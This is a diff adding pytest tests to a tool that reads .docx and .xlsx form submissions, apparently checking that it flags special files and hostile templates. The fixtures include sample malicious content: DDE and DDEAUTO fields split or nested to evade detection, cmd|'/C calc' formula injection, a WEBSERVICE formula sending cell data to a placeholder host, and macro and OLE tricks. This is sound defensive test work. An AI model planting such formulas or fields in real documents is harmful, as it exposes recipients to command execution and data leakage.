@@ -188,6 +188,33 @@ def test_an_unlistable_folder_is_a_problem_row(tmp_path, monkeypatch):
     assert [r["file"] for r in _tables(out, "xlsx")["problems"]] == ["锁住的/"]
 
 
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and symbolic links")
+@pytest.mark.parametrize(("name", "fmt"), FORMATS)
+def test_every_entry_named_like_a_form_is_accounted_for_and_none_blocks(tmp_path, name, fmt):
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    filled(inbox / "good.xlsx")
+    os.mkfifo(inbox / "pipe.docx")  # opening it for reading would wait for a writer for ever
+    os.symlink("/dev/zero", inbox / "zero.xlsx")  # endless
+    os.symlink("loop.xlsx", inbox / "loop.xlsx")
+    os.symlink(tmp_path / "gone.docx", inbox / "gone.docx")
+    (tmp_path / "elsewhere").mkdir()
+    filled(tmp_path / "elsewhere" / "far.xlsx")
+    os.symlink(tmp_path / "elsewhere", inbox / "linked")  # a folder behind a link: not followed, but said
+    (inbox / "dir.xlsx").mkdir()  # a folder named like a form is a folder
+    done: list[object] = []
+    worker = threading.Thread(target=lambda: done.append(convert(inbox, tmp_path / name, fmt=fmt, labels="en",
+                                                                  workers=0)), daemon=True)
+    worker.start()
+    worker.join(60)
+    assert done, "convert did not finish (blocked on the FIFO?)"
+    summary = done[0]
+    problems = {r["file"]: r["message"] for r in _tables(tmp_path / name, fmt)["problems"]}
+    assert (summary.files, summary.good, summary.broken) == (6, 1, 5)
+    assert set(problems) == {"pipe.docx", "zero.xlsx", "loop.xlsx", "gone.docx", "linked/"}
+    assert "FIFO" in problems["pipe.docx"] and "设备" in problems["zero.xlsx"] and "符号链接" in problems["linked/"]
+
+
 # -- 2. never overwrite without --force ------------------------------------------------------------------
 
 def test_convert_refuses_to_write_into_what_it_reads(tmp_path):
@@ -333,8 +360,34 @@ def _dde_formula(items):
 
 def _docx_body(extra: bytes):
     def edit(items):
-        items["word/document.xml"] = items["word/document.xml"].replace(b"</w:body>", extra + b"</w:body>")
+        if extra.startswith(b"<w:r>"):  # runs go into a paragraph of their own
+            extra_p = b"<w:p>" + extra + b"</w:p>"
+        else:
+            extra_p = extra
+        items["word/document.xml"] = items["word/document.xml"].replace(b"</w:body>", extra_p + b"</w:body>")
     return edit
+
+
+OLE2_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+
+
+def _fld(*code: bytes) -> bytes:
+    """A complex field (begin … separate … end) whose instruction is ``code``, each piece a run of its own (a
+    piece that is itself a field is nested as it stands)."""
+    runs = b"".join(c if c.startswith(b"<w:r><w:fldChar") else b'<w:r><w:instrText xml:space="preserve">' + c +
+                    b"</w:instrText></w:r>" for c in code)
+    return (b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + b'<w:r><w:fldChar w:fldCharType="separate"/>'
+            b'</w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+def _utf16(items, part, edit):
+    edit(items)
+    text = items[part].decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    items[part] = b"\xff\xfe" + text.encode("utf-16-le")
+
+
+def _sheet_xml(items, old, new):
+    items["xl/worksheets/sheet1.xml"] = items["xl/worksheets/sheet1.xml"].replace(old, new, 1)
 
 
 _DDE_SPLIT = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
@@ -353,6 +406,32 @@ _HOSTILE_TEMPLATES = {
     "other-prefix.docx": (".docx", _docx_body(
         b'<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE a b">'
         b'</q:fldSimple></q:p>'), "DDE"),
+    # a field's name split by a nested field (DD{QUOTE ""}EAUTO), or made by one ({{QUOTE 68 68 69 …} …})
+    "nested-split.docx": (".docx", _docx_body(_fld(b"DD", _fld(b'QUOTE ""'), b'EAUTO c:\\a "b"')), "DDEAUTO"),
+    "computed-name.docx": (".docx", _docx_body(_fld(_fld(b"QUOTE 68 68 69 65 85 84 79"), b' c:\\a "b"')), "嵌套"),
+    "database.docx": (".docx", _docx_body(_fld(b' DATABASE \\c "DSN=x" \\s "select 1" ')), "DATABASE"),
+    "strict-namespace.docx": (".docx", _docx_body(
+        b'<q:p xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"><q:fldSimple q:instr="DDEAUTO a b"/></q:p>'),
+        "DDEAUTO"),
+    "utf16.docx": (".docx", lambda items: _utf16(items, "word/document.xml", _docx_body(_fld(b" DDEAUTO a b "))),
+                   "DDEAUTO"),
+    "mail-merge.docx": (".docx", lambda items: items.update({"word/settings.xml": items["word/settings.xml"].replace(
+        b"</w:settings>", b'<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge>'
+                          b'</w:settings>')}), "邮件合并"),
+    "ole-as-picture.docx": (".docx", lambda items: items.update({"word/media/image9.png": OLE2_BYTES}), "OLE"),
+    "macro-type.docx": (".docx", lambda items: items.update({"[Content_Types].xml": items["[Content_Types].xml"].replace(
+        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")}), "宏"),
+    "dde-charref.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</sheetData>",
+                         b'<row r="90"><c r="A90"><f>cmd&#124;\' /C calc\'!A0</f></c></row></sheetData>'), "DDE"),
+    "dde-validation.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</worksheet>",
+                            b'<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|\'/c calc'
+                            b'\'!A0</formula1></dataValidation></dataValidations></worksheet>'), "DDE"),
+    "webservice.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</sheetData>", b'<row r="90"><c r="A90" t="str"><f>'
+                        b'_xlfn.WEBSERVICE("http://x/?"&amp;B4)</f></c></row></sheetData>'), "WEBSERVICE"),
+    "connections.xlsx": (".xlsx", lambda items: items.update({"xl/connections.xml": b'<connections xmlns="http://'
+                         b'schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}), "外部数据连接"),
+    "macrosheet.xlsx": (".xlsx", lambda items: items.update({"xl/macrosheets/sheet2.xml": b"<xm:macrosheet/>"}),
+                        "宏表"),
 }
 
 
@@ -372,6 +451,19 @@ def test_hyperlink_fields_and_clean_templates_are_fine(tmp_path):
     formparse.fill(base_record(), tmp_path / "a.docx", tpl)
     for sub in sorted((ROOT / "samples" / "submissions").glob("*.[dx][ol][cs]x")):
         formparse.fill(formparse.read(sub), tmp_path / f"back-{sub.name}", sub)
+
+
+def test_a_dotx_template_gives_a_docx_content_type(tmp_path):
+    def as_template(items):
+        items["[Content_Types].xml"] = items["[Content_Types].xml"].replace(
+            b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
+
+    tpl = _rewrite(template_path(".docx"), tmp_path / "t.dotx", as_template)
+    out = formparse.fill(base_record(), tmp_path / "out.docx", tpl)
+    with zipfile.ZipFile(out) as zf:
+        types = zf.read("[Content_Types].xml")
+    assert b"wordprocessingml.document.main+xml" in types and b"template.main" not in types
+    assert formparse.read(out).unit_name == base_record().unit_name
 
 
 def test_an_xltx_template_gives_an_xlsx_content_type(tmp_path):
@@ -501,3 +593,26 @@ def test_a_folder_output_is_published_all_or_nothing(tmp_path, monkeypatch):
         convert(inbox, out, fmt="parquet", labels="en", workers=0)
     assert sorted(p.name for p in out.iterdir()) == ["reviews.parquet"]  # the rival's file, nothing of ours
     assert (out / "reviews.parquet").read_bytes() == b"rival"
+
+
+# -- 4. a writer linear in the form -----------------------------------------------------------------------
+
+def test_content_below_the_form_survives_a_fill_and_moves_with_its_rows(tmp_path):
+    """The writer's second look at the sheet stops a little past the form (benchmarks/bench_write.py): what
+    lies below is still copied, its merges and rows moved down by the rows the fill added."""
+    import re
+
+    from tests.outputkit import many_merges
+
+    tpl = many_merges(tmp_path / "merges.xlsx", 2000)  # rows 200-1199, two merged ranges each
+    rec = base_record(n_goals=3, n_indicators=40)
+    out = formparse.fill(rec, tmp_path / "out.xlsx", tpl)
+    assert formparse.read(out).indicators == rec.indicators
+    with zipfile.ZipFile(out) as zf:
+        after = zf.read("xl/worksheets/sheet1.xml").decode()
+    # (row 200's “x” is read as 填报人's value, far below its label, and so written over: rows from 201 on)
+    rows = [int(r) for r, body in re.findall(r'<row r="(\d+)"[^>]*>(.*?)</row>', after) if "<t>x</t>" in body]
+    shift = rows[0] - 201
+    assert shift > 0 and rows == list(range(201 + shift, 1200 + shift))
+    ranges = {int(r) for r in re.findall(r'<mergeCell ref="[AC](\d+):[BD]\1"/>', after)}
+    assert set(range(201 + shift, 1200 + shift)) <= ranges
